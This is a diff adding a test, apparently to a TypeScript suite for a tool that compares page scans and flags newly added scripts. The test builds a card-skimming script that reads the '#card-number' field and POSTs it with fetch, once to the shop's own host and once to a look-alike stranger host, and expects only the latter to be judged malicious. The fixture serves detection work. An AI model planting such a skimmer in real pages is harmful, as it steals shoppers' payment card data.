@@ -79,6 +79,13 @@ describe('two scans of a page', () => {
     expect(compareVisited(none, visit([script(app, steals)])).changes[0]).toMatchObject({ kind: 'script-added', verdict: 'malicious' })
   })
 
+  it('do not take the site’s own address, written out, for a stranger’s, nor sending the card there for nothing', () => {
+    const pays = (to: string) =>
+      script(app, `${sum}; fetch('https://${to}/pay', { method: 'POST', body: document.querySelector('#card-number').value })`)
+    const verdicts = (to: string) => compareVisited(visit([]), visit([pays(to)])).changes.map(({ verdict }) => verdict)
+    expect([verdicts('api.shop.example'), verdicts('api.shop-pay.example')]).toEqual([['capability'], ['malicious']])
+  })
+
   it('leave a script that was never received out of account, and judge its first content like that of a new one', () => {
     const missing = script(app, '', { state: 'failed', digest: null, textSha256: null, sizeBytes: null })
     expect(compareVisited(visit([missing]), visit([missing]))).toMatchObject({ changes: [], notCompared: [] })
